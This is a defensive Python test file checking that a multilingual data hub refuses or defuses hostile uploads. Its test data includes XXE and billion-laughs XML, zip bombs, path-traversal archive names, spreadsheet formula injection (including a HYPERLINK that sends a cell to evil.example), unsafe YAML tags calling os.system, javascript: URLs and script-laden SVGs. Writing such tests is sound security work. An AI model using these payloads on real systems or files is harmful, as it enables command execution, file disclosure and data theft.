"""What somebody hands in who means harm: escaped, refused or defused, each attack by name.

HTML and links in pages are in test_tags; a whole site of hostile texts is opened in test_hostile_site.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path, PurePosixPath
from typing import Final

import pytest
from openpyxl import Workbook, load_workbook

from hub.downloads.cells import Pen
from hub.downloads.incoming import Limits, Refusal, RefusedFile, check_archive, read_sheets
from hub.rules.files import drawing_fault
from hub.source.yaml12 import MAX_DEPTH, parse
from hub.views.charts.download import safe
from tests.support.hub import Content, check_hub, codes, make_hub, page, problems_of
from tests.support.site import PROJECT

AUTHORITY: Final = "data/authorities/sderot.yml"
NAME: Final = "name: {he: 'שדרות', ar: 'سديروت', en: 'Sderot'}"
FORMULAS: Final = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example?x="&A1,"look")',
    "\uff1d1+1",
    "\uff20SUM(1)",
)


def errors(tmp_path: Path, files: dict[str, Content]) -> list[str]:
    return codes([found for found in problems_of(tmp_path, files) if found.is_error])


# Workbooks that people send


def workbook() -> bytes:
    book = Workbook()
    book.worksheets[0].append(["name", 5])
    book.worksheets[0].append([None, "=1+1", None])
    return saved(book)


def saved(book: Workbook) -> bytes:
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def changed(name: str, content: bytes | Callable[[bytes], bytes]) -> bytes:
    """The workbook with a part replaced, or with one more."""
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as new:
        parts = {part: old.read(part) for part in old.namelist()}
        parts[name] = content if isinstance(content, bytes) else content(parts[name])
        for part, data in parts.items():
            new.writestr(part, data)
    return result.getvalue()


SHEET: Final = "xl/worksheets/sheet1.xml"


def test_an_honest_workbook_is_read() -> None:
    """Values alone: what a formula was is not calculated, and rows end with their last value."""
    assert read_sheets(workbook()) == {"Sheet": [("name", 5), ()]}


def entity(_: bytes) -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def laughs(_: bytes) -> bytes:
    nested = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{nested}]><x>&l9;</x>'.encode()


def far_cell(data: bytes) -> bytes:
    return data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


def far_column(data: bytes) -> bytes:
    return data.replace(b"</sheetData>", b'<row r="9"><c r="XFD9"><v>1</v></c></row></sheetData>')


REFUSED: Final[dict[str, tuple[Callable[[], bytes], Refusal]]] = {
    "nothing": (lambda: b"", Refusal.NOT_OFFICE),
    "a text": (lambda: b"name,value\n", Refusal.NOT_OFFICE),
    "an old kind of workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), Refusal.NOT_OFFICE),
    "an archive of something else": (lambda: changed("[Content_Types].xml", b"<x/>"), Refusal.NOT_OFFICE),
    "a cut archive": (lambda: workbook()[:-40], Refusal.NOT_OFFICE),
    "damage inside": (lambda: workbook()[:200] + bytes(200) + workbook()[400:], Refusal.NOT_OFFICE),
    "a file too large": (lambda: bytes(5_000_001), Refusal.TOO_LARGE),
    "a zip bomb": (lambda: changed("xl/media/x.bin", bytes(15_000_000)), Refusal.UNPACKS_TOO_LARGE),
    "a bomb of XML": (lambda: changed(SHEET, b"<x>" + b" " * 15_000_000), Refusal.UNPACKS_TOO_LARGE),
    "thousands of parts": (lambda: archive({f"x/{n}": b"" for n in range(300)}), Refusal.TOO_MANY_PARTS),
    "a part that leads out": (lambda: changed("../../evil.xml", b"<x/>"), Refusal.PART_NAME),
    "a part that leads out, turned": (lambda: changed("..\\evil.xml", b"<x/>"), Refusal.PART_NAME),
    "a part at the root": (lambda: changed("/etc/evil.xml", b"<x/>"), Refusal.PART_NAME),
    "a part on a drive": (lambda: changed("C:/evil.xml", b"<x/>"), Refusal.PART_NAME),
    "a part twice": (lambda: changed("XL/Workbook.xml", b"<x/>"), Refusal.PART_NAME),
    "an external entity": (lambda: changed(SHEET, entity), Refusal.ENTITIES),
    "entities that multiply": (lambda: changed("xl/workbook.xml", laughs), Refusal.ENTITIES),
    "entities in UTF-16": (
        lambda: changed(SHEET, lambda data: entity(data).decode().encode("utf-16")),
        Refusal.ENTITIES,
    ),
    "entities in UTF-7": (
        lambda: changed(SHEET, b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x>'),
        Refusal.ENTITIES,
    ),
    "a macro": (lambda: changed("xl/vbaProject.bin", b"x"), Refusal.MACROS),
    "a cell at the end of the sheet": (lambda: changed(SHEET, far_cell), Refusal.TOO_MANY_CELLS),
    "a cell in the last column": (lambda: changed(SHEET, far_column), Refusal.TOO_MANY_CELLS),
}


def archive(parts: dict[str, bytes]) -> bytes:
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as new:
        for name, content in {"[Content_Types].xml": b"<x/>", **parts}.items():
            new.writestr(name, content)
    return result.getvalue()


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_workbook_is_refused(name: str) -> None:
    make, refusal = REFUSED[name]
    with pytest.raises(RefusedFile) as caught:
        read_sheets(make())
    assert caught.value.refusal is refusal


def test_a_protected_archive_is_refused() -> None:
    """The flag is enough: nobody is asked for a password."""
    data = bytearray(workbook())
    data[data.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(RefusedFile) as caught:
        check_archive(bytes(data))
    assert caught.value.refusal is Refusal.ENCRYPTED


def test_many_small_parts_that_are_too_large_together() -> None:
    """What unpacks is counted over the whole archive."""
    data = archive({f"x/{number}.bin": bytes(600) for number in range(100)})
    with pytest.raises(RefusedFile) as caught:
        check_archive(data, Limits(whole=50_000))
    assert caught.value.refusal is Refusal.UNPACKS_TOO_LARGE


def test_merged_cells_all_over_the_sheet_cost_nothing() -> None:
    """They are not unfolded into cells."""
    merged = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    data = changed(SHEET, lambda sheet: sheet.replace(b"</sheetData>", merged))
    assert read_sheets(data) == {"Sheet": [("name", 5), ()]}


def test_a_sheet_that_lies_about_its_size_is_read_as_it_is() -> None:
    data = changed(SHEET, lambda sheet: sheet.replace(b'<dimension ref="A1:B2"', b'<dimension ref="A1:XFD1048576"'))
    assert data != workbook()
    assert read_sheets(data) == {"Sheet": [("name", 5), ()]}


# Files for spreadsheets


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_is_no_formula_in_a_workbook(formula: str) -> None:
    """It is stored as text and marked as quoted, so that editing the cell does not run it either."""
    book = Workbook()
    Pen(book.worksheets[0], is_rtl=False, known={}).write(1, 1, formula)
    cell = load_workbook(io.BytesIO(saved(book))).worksheets[0]["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


@pytest.mark.parametrize("formula", [*FORMULAS, "\t=1+1", "\r=1+1", "\n=1+1"])
def test_a_text_is_no_formula_in_a_csv_file(formula: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([safe(formula), safe(-5), safe("a=1")])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [f"'{formula}", "-5", "a=1"]


# YAML


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("a: &a [x]\nb: *a\n", "yaml-alias"),
        ("a: &a {b: 1}\nc: {<<: *a}\n", "yaml-alias"),
        ("a: !!python/object/apply:os.system [id]\n", "yaml-tag"),
        ("a: !include /etc/passwd\n", "yaml-tag"),
        ("a: " + "[" * 100_000 + "]" * 100_000, "yaml-too-deep"),
        ("".join(f"{'  ' * depth}a:\n" for depth in range(MAX_DEPTH + 2)), "yaml-too-deep"),
        ("--- {a: 1}\n--- {b: 2}\n", "yaml-documents"),
        ("? [a, b]\n: c\n", "yaml-key-not-text"),
    ],
)
def test_yaml_that_would_explode_or_run(text: str, code: str) -> None:
    """Anchors, merges, tags of programs, depths: the reading stops there."""
    document = parse(text, PurePosixPath("x.yml"))
    assert [found.code for found in document.problems] == [code]
    assert not document.is_whole


@pytest.mark.parametrize(
    "number", ["9" * 299, "9" * 5_000, "1e308", "1e999", "-1e999", ".inf", ".nan", "0x" + "f" * 400]
)
def test_numbers_beyond_measure(tmp_path: Path, number: str) -> None:
    """They are refused or read, in no time, and never end in a traceback."""
    facts = f"facts: [{{property: population, value: {number}, unit: people, year: 2021, source: {{id: evaluation}}}}]"
    problems_of(tmp_path, {AUTHORITY: f"id: sderot\n{NAME}\n{facts}\n"})


# Ways out of the hub


OUT: Final = ("../../etc/passwd", "..", "a/b", "/etc/passwd", "a\\b", "%2e%2e", "a.b", "con:", "C:x", "א", "A", "a--b")


@pytest.mark.parametrize("name", OUT)
def test_an_id_leads_nowhere_else(tmp_path: Path, name: str) -> None:
    """Ids become folders and addresses: letters, digits and hyphens, nothing more."""
    text = f"id: '{name}'\n{NAME}\nsources: [{{id: evaluation}}]\n"
    assert "id-invalid" in errors(tmp_path, {AUTHORITY: text})


@pytest.mark.parametrize("block", ["work-plan", "chart", "diagram", "template", "authorities"])
@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "<script>", "plan/../plan", "{{ 7*7 }}"])
def test_a_block_names_only_what_is_there(tmp_path: Path, block: str, name: str) -> None:
    body = f"\n/// {block} | {name}\n///\n"
    assert errors(tmp_path, {"docs/he/about/index.md": page("he", body)})


def test_an_option_of_a_block_names_only_what_is_there(tmp_path: Path) -> None:
    body = "\n/// work-plan | plan\n    item: ../../x\n    path: /etc/passwd\n///\n"
    found = errors(tmp_path, {"docs/he/about/index.md": page("he", body)})
    assert found == ["reference-unknown", "block-option-unknown"]


@pytest.mark.parametrize("template", ["../../etc/passwd", "/etc/passwd", "main.html", "{{ 7*7 }}"])
def test_a_page_asks_for_no_other_template(tmp_path: Path, template: str) -> None:
    text = page("he", fields=f"template: '{template}'\n")
    assert "choice-unknown" in errors(tmp_path, {"docs/he/about/index.md": text})


@pytest.mark.parametrize("field", ["hide: [toc]", "status: new", "icon: ../../x", "render_macros: true", "search: {}"])
def test_a_page_sets_nothing_of_the_engine(tmp_path: Path, field: str) -> None:
    assert "key-unknown" in errors(tmp_path, {"docs/he/about/index.md": page("he", fields=f"{field}\n")})


@pytest.mark.parametrize(
    "address", ["../x/", "/etc/passwd", "//evil.example/", "https://evil.example/", "a/../b/", "a"]
)
def test_a_redirect_leads_to_pages_alone(tmp_path: Path, address: str) -> None:
    """Neither out of the folder that redirects are written to, nor to another host."""
    for line in (f"- {{old: '{address}', new: about/}}\n", f"- {{old: old/, new: '{address}'}}\n"):
        assert "address-invalid" in errors(tmp_path / str(len(line)), {"data/redirects.yml": line})


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        'https://x/"onclick="alert(1)',
    ],
)
def test_an_address_in_data_is_one_of_the_web(tmp_path: Path, address: str) -> None:
    name = "{he: א, ar: أ, en: A}"
    organisation = f"- {{id: foundation, name: {name}, sector: philanthropy, url: '{address}', sources: []}}\n"
    assert "url-invalid" in errors(tmp_path, {"data/organisations.yml": organisation})


@pytest.mark.parametrize("folder", ["docs/he/about", "data/authorities"])
@pytest.mark.parametrize("target", ["/etc/passwd", "../../../mkdocs.yml", "/"])
def test_a_link_of_the_file_system_is_refused(tmp_path: Path, folder: str, target: str) -> None:
    """The engine would publish what it leads to."""
    config = make_hub(tmp_path)
    (tmp_path / folder / "stolen.png").symlink_to(target)
    assert "file-link" in codes(check_hub(config))


# Drawings


SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{}>{}</svg>'
DRAWINGS: Final = {
    "script": SVG.format("", "<script>alert(1)</script>"),
    "script in another name space": SVG.format("", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>'),
    "handler": SVG.format(' onload="alert(1)"', ""),
    "link that runs": SVG.format("", '<a href="javascript:alert(1)"><text>x</text></a>'),
    "xlink that runs": SVG.format("", '<use xlink:href="javascript:alert(1)"/>'),
    "use of another file": SVG.format("", '<use href="https://evil.example/x.svg#a"/>'),
    "picture of another host": SVG.format("", '<image href="https://evil.example/x.png"/>'),
    "HTML inside": SVG.format("", "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>"),
    "animation that sets a link": SVG.format("", '<animate attributeName="href" to="javascript:alert(1)"/>'),
    "style": SVG.format("", "<style>@import 'https://evil.example/x.css';</style>"),
    "style attribute": SVG.format("", '<g style="fill:url(https://evil.example/x)"/>'),
    "paint of another host": SVG.format("", '<g fill="url(https://evil.example/x)"/>'),
    "entity": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{SVG.format("", "<text>&a;</text>")}',
    "stylesheet": '<?xml-stylesheet href="https://evil.example/x.css"?>' + SVG.format("", "<g/>"),
    "no SVG": "<html><script>alert(1)</script></html>",
    "no XML": "<svg",
}


@pytest.mark.parametrize("name", DRAWINGS)
def test_a_drawing_is_a_drawing(name: str) -> None:
    assert drawing_fault(DRAWINGS[name].encode())


def test_an_honest_drawing_passes() -> None:
    inside = '<defs><path id="a" d="M0 0h1v1z"/></defs><use xlink:href="#a" fill="url(#b)"/><text>x</text>'
    assert drawing_fault(SVG.format(' viewBox="0 0 1 1"', inside).encode()) == ""


def test_our_own_drawings_are_drawings() -> None:
    for file in (PROJECT / "overrides").rglob("*.svg"):
        assert drawing_fault(file.read_bytes()) == "", file
